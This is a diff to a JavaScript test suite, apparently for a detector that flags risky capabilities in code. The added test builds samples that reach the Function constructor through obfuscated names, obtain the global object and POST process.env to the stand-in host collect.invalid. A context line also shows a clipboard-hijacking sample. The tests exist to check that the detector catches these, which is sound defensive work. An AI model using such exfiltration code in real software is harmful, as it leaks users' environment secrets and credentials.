@@ -19,6 +19,17 @@ describe('words of power in a text', () => {
     assert.ok(hasPower(`document.addEventListener('copy', (e) => e.clipboardData.setData('text/plain', own));`));
   });
 
+  it('lets nobody past who gets at what makes functions by a name of its own', () => {
+    for (const name of ['.constructor;', `['con' + 'structor'];`, `['rotcurtsnoc'.split('').reverse().join('')];`]) {
+      const code = `function render() {}
+        const make = render${name}
+        const all = make('return this')();
+        all.fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all.process['env']) });`;
+      assert.ok(hasPower(code), name);
+      assert.deepEqual(flowsOf(code), ['environment>network@collect.invalid'], name);
+    }
+  });
+
   it('lets what can only compute alone', () => {
     for (const code of [
       'exports.add = (a, b) => a + b;',
